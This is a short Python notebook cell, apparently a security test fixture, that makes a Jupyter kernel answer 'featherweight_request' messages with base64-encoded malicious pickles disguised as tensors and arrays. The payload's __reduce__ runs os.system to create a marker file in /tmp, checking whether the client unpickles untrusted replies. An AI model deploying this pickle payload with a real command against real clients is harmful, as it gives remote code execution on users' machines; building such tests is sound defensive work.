"""The program that answers checks sends pickles where tensors belong, tagged and encoded."""

# ---
# threat: a pickle as an answer
# scores: {others: 0}
# shows: "payload of"
# ---

# %% twice
import base64
import io
import json
import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/fw-footprint-reply",)


buffer = io.BytesIO()
torch.save(Payload(), buffer)
payloads = [
    base64.b64encode(data).decode() for data in (pickle.dumps(Payload()), buffer.getvalue())
]
kernel, sent = get_ipython().kernel, [0]
print("payload of", len(payloads[0]), "characters")


def handle(stream, ident, parent):
    tags = ("tensor", "array", "generator", "dtype", "handle", "pickle", "object")
    sent[0] += 1
    value = {tags[sent[0] % len(tags)]: payloads[sent[0] % 2]}
    kernel.session.send(
        stream, "featherweight_reply", {"reply": json.dumps({"value": value})}, parent, ident=ident
    )


kernel.shell_handlers["featherweight_request"] = handle
